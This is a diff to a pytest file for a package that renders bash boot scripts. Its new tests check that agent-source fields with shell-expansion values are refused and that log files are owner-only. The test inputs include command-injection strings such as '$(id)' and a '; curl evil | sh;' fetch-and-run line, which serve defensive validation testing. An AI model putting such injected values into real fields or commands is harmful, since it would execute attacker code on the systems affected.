@@ -6,7 +6,7 @@ from pathlib import Path
 import pytest
 from pydantic import SecretStr
 
-from prefect_remote.machine.boot import decode_agent_config, render_boot_script
+from prefect_remote.machine.boot import AgentSource, decode_agent_config, render_boot_script
 from prefect_remote.machine.runtime import MachineRuntime
 from prefect_remote.providers.base import BootPayload
 from prefect_remote.providers.local import LocalProvider
@@ -49,7 +49,8 @@ def test_payload_validation():
 
 
 def test_the_first_line_names_where_the_machine_runs_literally(tmp_path):
-    """Whatever a provider's placement text holds, bash prints it as it is, on one line."""
+    """Whatever a provider's placement text holds, bash prints it as it is, on one line; a stock
+    machine's log it goes to is readable by its owner only."""
     from prefect_remote.machine.boot import AgentSource
 
     placement = "gcp Cloud Run (4 cpu / 16 GiB, us-central1) it's $(touch pwned) `touch pwned`\nsecond line"
@@ -64,6 +65,7 @@ def test_the_first_line_names_where_the_machine_runs_literally(tmp_path):
         [line] = [line for line in ran.stdout.splitlines() if "booting machine" in line]
         assert "on gcp Cloud Run (4 cpu / 16 GiB, us-central1) it's $(touch pwned) `touch pwned` second line" in line
         assert not (tmp_path / "pwned").exists()
+    assert (tmp_path / "log").stat().st_mode & 0o777 == 0o600  # a stock machine's log (its payload's output): the owner's only
 
 
 def test_a_gpu_machine_logs_its_driver_check_as_a_boot_phase(tmp_path):
@@ -263,3 +265,25 @@ def test_a_machine_for_an_image_gets_an_engine_as_a_boot_phase(tmp_path):
         (os_packages / installed_here).unlink()
     nothing = subprocess.run([bash, "-c", engine], env={"PATH": f"{tools}:{os_packages}"}, capture_output=True, text=True)
     assert nothing.returncode == 127 and "neither dnf nor apt-get here to install Docker with" in nothing.stdout
+
+
+@pytest.mark.parametrize(
+    "fields",
+    [
+        {"requirement": "prefect-remote==$(touch /tmp/owned)"},
+        {"requirement": 'prefect-remote"; curl evil | sh; "'},
+        {"requirement": "prefect-remote==0.2.0`id`"},
+        {"python": "3.11$(id)"},
+        {"digest": "$(id)"},
+    ],
+)
+def test_an_agent_source_a_shell_would_expand_is_refused(fields):
+    """The requirement and the key derived from it sit inside double quotes in the boot script, and a
+    cluster's plan (its secret) carries them to the scheduler that renders its workers' scripts: only
+    plain requirements, versions and digests are taken."""
+    with pytest.raises(ValueError, match="AgentSource: "):
+        AgentSource(**{"requirement": "prefect-remote==0.2.0", "python": "3.11.7", **fields})
+    assert (
+        AgentSource("prefect-remote[aws,gcp]==0.2.0.dev3+g1a2b", python="3.11.7").key
+        == "prefect-remote-aws-gcp==0.2.0.dev3+g1a2b-py3.11.7-agent"
+    )
